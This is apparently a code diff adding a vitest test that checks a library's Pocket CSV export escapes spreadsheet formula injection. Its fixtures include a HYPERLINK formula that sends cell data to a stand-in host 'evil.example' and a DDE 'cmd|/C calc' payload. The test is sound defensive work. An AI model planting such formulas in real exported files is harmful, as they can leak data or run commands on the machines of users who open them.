@@ -1,4 +1,5 @@
 import { strToU8, unzipSync, zipSync } from 'fflate';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { detectFormat, exportLibraryJson, exportPocketCsv, parseImport } from '@/utils/library/formats';
 import { exportMarkdownZip } from '@/utils/library/formats/markdown';
@@ -94,6 +95,33 @@ describe('Pocket CSV', () => {
       ['https://example.com/a', 'Commas, "quotes"\nand lines', ['x', 'y z'], 'unread', 1_700_000_000_000],
       ['https://example.com/b', 'Plain', [], 'archived', 1_600_000_000_000],
     ]);
+  });
+});
+
+describe('CSV export and spreadsheet formulas (issue 15, finding 4)', () => {
+  const hostile = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    '@SUM(1+1)*cmd|/C calc!A0',
+    '+1+1',
+    '-2+3',
+    '\tindented',
+    '\rcarriage',
+  ];
+
+  it('starts no cell with =, +, -, @, tab or CR, and reads its own escaping back', () => {
+    const items = hostile.map((title, n) =>
+      makeItem({ url: `https://example.com/${n}`, title, tags: [title.trim(), 'plain'] }),
+    );
+    const csv = exportPocketCsv(items);
+    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells).toContain(`'${hostile[0]}`);
+    const result = parseImport('export.csv', csv, { now: NOW });
+    if (!result.ok) throw new Error(result.error);
+    expect(result.items.map((item) => item.title)).toEqual(hostile.map((title) => title.trim() || title));
+    expect(result.items.map((item) => item.tags[0])).toEqual(
+      hostile.map((title) => title.trim().split('|')[0]),
+    );
   });
 });
 
